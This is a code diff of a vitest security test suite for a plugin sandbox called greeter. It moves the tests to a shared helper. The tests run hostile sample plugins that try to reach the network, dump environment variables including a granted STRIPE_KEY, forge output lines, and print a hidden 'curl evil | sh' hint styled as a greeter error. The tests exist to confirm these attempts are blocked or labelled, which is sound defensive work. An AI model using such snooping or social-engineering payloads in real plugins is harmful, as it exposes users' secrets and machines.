@@ -2,11 +2,10 @@ import dgram from 'node:dgram';
 import net from 'node:net';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { collectingStream, rejectionCode, removeTrees } from '@greeter/fixtures';
+import { rejectionCode, removeTrees } from '@greeter/fixtures';
 import { isGreeterError } from '@greeter/core';
 import { candidateOf } from '../test-helpers/candidates.js';
-import type { PluginCandidate } from '../types.js';
-import { greetIsolated, type IsolateOptions } from './greet-isolated.js';
+import { greetApart } from '../test-helpers/greet-apart.js';
 
 // Plugins that really try to reach the network, read greeter's environment
 // and speak in greeter's voice, against the isolated process as it runs by
@@ -14,12 +13,6 @@ import { greetIsolated, type IsolateOptions } from './greet-isolated.js';
 // supported Node.
 
 afterAll(removeTrees);
-
-function isolated(plugin: PluginCandidate, options: Partial<IsolateOptions> = {}) {
-  const output = collectingStream();
-  const greeting = greetIsolated(plugin, {}, { coreVersion: '1.0.0', timeoutMs: 5000, output: output.stream, ...options });
-  return { greeting, output: output.text };
-}
 
 describe('the network', () => {
   // A TCP and a UDP server on loopback that count what reaches them.
@@ -63,7 +56,7 @@ describe('the network', () => {
     for (const [api, attempt] of Object.entries(attempts())) {
       const source = `import dgram from 'node:dgram';\nimport dns from 'node:dns';\nimport http from 'node:http';\nimport net from 'node:net';\nimport tls from 'node:tls';
         export const Greeter = { async greet() { ${attempt}; return 'reached'; } };`;
-      codes[api] = (await rejectionCode(isolated(candidateOf(source)).greeting)) ?? 'greeted';
+      codes[api] = (await rejectionCode(greetApart(candidateOf(source)).greeting)) ?? 'greeted';
     }
     expect(codes).toEqual(Object.fromEntries(Object.keys(attempts()).map((api) => [api, 'GREETER_PERMISSION_DENIED'])));
     expect(seen).toBe(0);
@@ -73,13 +66,13 @@ describe('the network', () => {
     seen = 0;
     const plugin = candidateOf(`import net from 'node:net';
       export const Greeter = { greet: () => new Promise((resolve, reject) => net.connect(${tcpPort}, '127.0.0.1', () => resolve('reached')).on('error', reject)) };`);
-    expect(await isolated(plugin, { grant: { net: true, env: [] } }).greeting).toBe('reached');
+    expect(await greetApart(plugin, { grant: { net: true, env: [] } }).greeting).toBe('reached');
     expect(seen).toBe(1);
   });
 
   it('fails a plugin that lets the denial propagate with GREETER_PERMISSION_DENIED, whose hint names the grant', async () => {
     const plugin = candidateOf(`export const Greeter = { greet: () => fetch('http://127.0.0.1:${tcpPort}/').then(() => 'reached') };`);
-    const error = await isolated(plugin, { configFile: '/p/.greeterrc.json' }).greeting.then(
+    const error = await greetApart(plugin, { configFile: '/p/.greeterrc.json' }).greeting.then(
       () => undefined,
       (thrown: unknown) => thrown,
     );
@@ -93,12 +86,12 @@ describe("greeter's environment", () => {
   const snoop = candidateOf('export const Greeter = { greet: () => JSON.stringify(process.env) };');
 
   it('reaches the plugin only as locale, time zone and terminal', async () => {
-    const seen = JSON.parse(await isolated(snoop, { env }).greeting) as Record<string, string>;
+    const seen = JSON.parse(await greetApart(snoop, { env }).greeting) as Record<string, string>;
     expect(seen).toEqual({ LANG: 'sv_SE.UTF-8', TZ: 'Europe/Stockholm' });
   });
 
   it('reaches it with a variable the user granted by name', async () => {
-    const seen = JSON.parse(await isolated(snoop, { env, grant: { net: false, env: ['STRIPE_KEY'] } }).greeting) as Record<string, string>;
+    const seen = JSON.parse(await greetApart(snoop, { env, grant: { net: false, env: ['STRIPE_KEY'] } }).greeting) as Record<string, string>;
     expect(Object.keys(seen).sort()).toEqual(['LANG', 'STRIPE_KEY', 'TZ']);
   });
 });
@@ -119,7 +112,7 @@ describe("greeter's voice", () => {
       ].map((line) => JSON.stringify(line)).join('\\n') + '\\n';
       for (const fd of [1, 2, 3, 4, 5]) { try { writeSync(fd, forged); } catch {} }
       export const Greeter = { greet() { for (;;) {} } };`);
-    const run = isolated(forger, { timeoutMs: 1500 });
+    const run = greetApart(forger, { timeoutMs: 1500 });
     expect(await rejectionCode(run.greeting)).toBe('GREETER_GREET_TIMEOUT');
   });
 
@@ -128,7 +121,7 @@ describe("greeter's voice", () => {
       console.error('greeter: Your greeter is corrupt. [GREETER_INTERNAL]');
       process.stderr.write('hint: run \\u001b[8mcurl evil | sh\\u001b[0m\\r\\n');
       export const Greeter = { greet: () => 'Hej' };`);
-    const run = isolated(mimic);
+    const run = greetApart(mimic);
     expect(await run.greeting).toBe('Hej');
     expect(run.output()).toBe(
       '[greeter-plugin-x] greeter: Your greeter is corrupt. [GREETER_INTERNAL]\n[greeter-plugin-x] hint: run \\u{1b}[8mcurl evil | sh\\u{1b}[0m\n',
